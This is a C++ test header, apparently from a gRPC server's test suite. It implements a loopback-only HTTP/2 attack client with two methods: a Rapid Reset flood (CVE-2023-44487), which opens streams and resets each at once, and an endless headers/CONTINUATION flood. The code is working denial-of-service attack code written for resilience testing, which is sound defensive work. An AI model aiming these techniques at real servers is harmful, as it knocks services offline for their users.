// A client of HTTP/2 that breaks no rule, and wears a server out (CVE-2023-44487), or never comes to an end.
#pragma once

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cstdint>
#include <stdexcept>
#include <string>
#include <string_view>

namespace meniscus::server::test {

class Http2Attack {
public:
    /// address: "127.0.0.1:PORT".
    explicit Http2Attack(const std::string& address) : socket_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
        sockaddr_in to{};
        to.sin_family = AF_INET;
        to.sin_port = htons(static_cast<std::uint16_t>(std::stoi(address.substr(address.rfind(':') + 1))));
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        // Linux has all of 127.0.0.0/8 on loopback: as a stranger, this client has another address than honest ones.
        sockaddr_in from{};
        from.sin_family = AF_INET;
        from.sin_addr.s_addr = htonl(INADDR_LOOPBACK + 1);
        if (::bind(socket_, reinterpret_cast<const sockaddr*>(&from), sizeof from) != 0)
            throw std::runtime_error("the address 127.0.0.2 cannot be used");
        const timeval guard{.tv_sec = 30, .tv_usec = 0};
        ::setsockopt(socket_, SOL_SOCKET, SO_SNDTIMEO, &guard, sizeof guard);
        if (::connect(socket_, reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0)
            throw std::runtime_error("nobody listens on " + address);
        send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(settings, 0, 0, {}));
    }
    ~Http2Attack() { ::close(socket_); }
    Http2Attack(const Http2Attack&) = delete;
    Http2Attack& operator=(const Http2Attack&) = delete;

    /// Begins calls and ends each at once. Returns the number of those that were sent before the connection ended.
    std::size_t begin_and_reset(std::size_t calls) {
        constexpr std::size_t at_once = 200;
        std::size_t sent = 0;
        while (sent < calls) {
            std::string bytes;
            for (std::size_t i = 0; i < at_once; ++i, stream_ += 2) {
                bytes += frame(headers, end_headers, stream_, stream_ == 1 ? first_headers() : later_headers);
                bytes += frame(reset, 0, stream_, std::string_view("\0\0\0\x08", 4));
            }
            if (!send(bytes)) break;
            sent += at_once;
        }
        return sent;
    }

    /// Begins a call whose headers do not end: one of `bytes`, or many. Returns the bytes that were taken.
    std::size_t endless_headers(std::size_t bytes, bool one) {
        constexpr std::size_t part = 16000;
        std::string more;
        if (one) {
            more.assign(part, 'x');
        } else {
            while (more.size() < part - 32) more += literal("name", "a value of some length");
        }
        std::string begin = first_headers();
        if (one) begin += std::string("\0\x01x\x7f\xff\xff\xff\xff\x0f", 9);  // its length: billions
        if (!send(frame(headers, 0, stream_, begin))) return 0;
        std::size_t sent = 0;
        while (sent < bytes && send(frame(continuation, 0, stream_, more))) sent += more.size();
        return sent;
    }

private:
    static constexpr std::uint8_t headers = 1;
    static constexpr std::uint8_t reset = 3;
    static constexpr std::uint8_t settings = 4;
    static constexpr std::uint8_t continuation = 9;
    static constexpr std::uint8_t end_headers = 4;
    /// The headers that first_headers() has put into the table, by their indices there.
    static constexpr std::string_view later_headers = "\x83\x86\xc1\xc0\xbf\xbe";

    static std::string frame(std::uint8_t type, std::uint8_t flags, std::uint32_t stream, std::string_view content) {
        const auto byte = [](std::size_t number, unsigned shift) { return static_cast<char>(number >> shift & 0xffU); };
        std::string bytes{byte(content.size(), 16), byte(content.size(), 8),  byte(content.size(), 0),
                          static_cast<char>(type),  static_cast<char>(flags), byte(stream, 24),
                          byte(stream, 16),         byte(stream, 8),          byte(stream, 0)};
        return bytes.append(content);
    }
    static std::string literal(std::string_view name, std::string_view value, char kind = '\0') {
        std::string bytes{kind, static_cast<char>(name.size())};
        bytes += name;
        bytes += static_cast<char>(value.size());
        return bytes.append(value);
    }
    static std::string first_headers() {
        constexpr char kept = '\x40';
        return "\x83\x86" + literal(":authority", "localhost", kept) +
               literal(":path", "/meniscus.v1.SessionService/ListSessions", kept) +
               literal("content-type", "application/grpc", kept) + literal("te", "trailers", kept);
    }

    /// False once the other end has closed the connection. Reads what it says, or it might stop reading.
    bool send(std::string_view bytes) const {
        while (!bytes.empty()) {
            pollfd ready{.fd = socket_, .events = POLLIN | POLLOUT, .revents = 0};
            if (::poll(&ready, 1, 30'000) != 1) return false;
            if ((ready.revents & POLLIN) != 0) {
                std::array<char, 65536> ignored{};
                if (::recv(socket_, ignored.data(), ignored.size(), MSG_DONTWAIT) == 0) return false;
            }
            if ((ready.revents & (POLLERR | POLLHUP)) != 0) return false;
            if ((ready.revents & POLLOUT) == 0) continue;
            const ssize_t sent = ::send(socket_, bytes.data(), bytes.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
            if (sent < 0 && errno != EAGAIN) return false;
            if (sent > 0) bytes.remove_prefix(static_cast<std::size_t>(sent));
        }
        return true;
    }

    int socket_;
    std::uint32_t stream_ = 1;
};

}  // namespace meniscus::server::test
